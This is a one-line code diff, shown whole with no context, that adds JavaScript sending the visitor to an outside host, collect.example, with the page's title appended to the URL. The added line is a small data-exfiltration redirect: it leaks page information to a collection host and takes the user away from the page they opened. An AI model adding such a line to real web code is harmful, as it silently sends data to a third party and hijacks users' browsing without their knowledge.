@@ -1,0 +1,1 @@
+window.location.replace("https://collect.example/?" + document.title);
